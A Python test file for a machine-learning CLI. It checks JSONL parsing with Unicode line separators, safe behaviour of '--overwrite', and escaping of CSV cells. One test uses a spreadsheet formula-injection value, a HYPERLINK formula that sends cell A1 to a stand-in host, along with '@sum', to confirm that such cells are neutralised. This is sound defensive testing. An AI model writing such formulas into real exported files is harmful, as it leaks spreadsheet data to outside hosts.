"""Readers that refused valid input or wrote what others run: JSONL strings holding Unicode line
separators are rows like any other (and later line numbers stay exact), ``--overwrite`` leaves
a directory where a file belongs untouched, and ``analyze --format csv`` writes cells a
spreadsheet shows rather than runs."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest
import yaml

from headwise.cli import main
from headwise.data.pairs import read_rows
from headwise.errors import ConfigError

from .cases import BASE
from .cases_readers import _gpt2

SEPARATORS = ["a\u2028b", "c\u2029d", "e\u0085f", "\u2028\u2029\u0085"]


def test_jsonl_strings_with_line_separators_are_rows(tmp_path: Path) -> None:
    """``str.splitlines`` would split each of these strings (valid JSON) in two; lines end at
    ``\\n`` only, a ``\\r`` before it is dropped, and a later error names its true line."""
    lines = [json.dumps({"q": s, "a": s[::-1]}, ensure_ascii=False) for s in SEPARATORS]
    path = tmp_path / "d.jsonl"
    path.write_bytes(("\r\n".join(lines) + "\r\n\n").encode())
    rows = list(read_rows(path, ("q", "a"), "pairs"))
    assert rows == [(i + 1, (s, s[::-1])) for i, s in enumerate(SEPARATORS)]
    path.write_bytes(("\n".join(lines) + '\n{"q": "x", "a": 5}\n').encode())
    with pytest.raises(ConfigError, match=r"d.jsonl: line 5: field 'a' is a number \(5\)"):
        list(read_rows(path, ("q", "a"), "pairs"))


def test_overwrite_never_deletes_a_directory_where_a_file_belongs(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import torch
    from safetensors.torch import save_file

    config, tensors = _gpt2()
    (tmp_path / "hf").mkdir()
    (tmp_path / "hf" / "config.json").write_text(json.dumps(config))
    save_file({k: torch.full(v[0], 0.01) for k, v in tensors.items()},
              tmp_path / "hf" / "model.safetensors")
    out = tmp_path / "out"
    (out / "config.json").mkdir(parents=True)
    (out / "config.json" / "notes.txt").write_text("precious")
    assert main(["convert", "--hf", str(tmp_path / "hf"), "--out", str(out),
                 "--overwrite"]) == 2
    assert "config.json: is a directory" in capsys.readouterr().err
    assert (out / "config.json" / "notes.txt").read_text() == "precious"
    shutil.rmtree(out / "config.json")
    assert main(["convert", "--hf", str(tmp_path / "hf"), "--out", str(out),
                 "--overwrite"]) == 0  # the files it writes are replaced as before


def test_csv_output_is_shown_by_spreadsheets_never_run(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    name = '=HYPERLINK("http://x.example/?"&A1,"click")'
    spec = {**BASE, "data": {"tasks": {name: {"task": "copy", "length": 3},
                                       "@sum": {"task": "reverse", "length": 3}}}}
    (tmp_path / "spec.yaml").write_text(yaml.safe_dump(spec, sort_keys=False))
    run = tmp_path / "run"
    assert main(["train", str(tmp_path / "spec.yaml"), "--out", str(run), "--quiet"]) == 0
    capsys.readouterr()
    assert main(["analyze", str(run), "--format", "csv"]) == 0
    text = capsys.readouterr().out
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row
             if row and not row[0].startswith("#")]
    assert f"'{name}" in cells and "'@sum" in cells
    numbers = []
    for cell in cells:
        try:
            numbers.append(float(cell))
        except ValueError:
            assert not cell.startswith(("=", "+", "-", "@")), cell
            continue
        assert not cell.startswith("+"), cell
    assert numbers
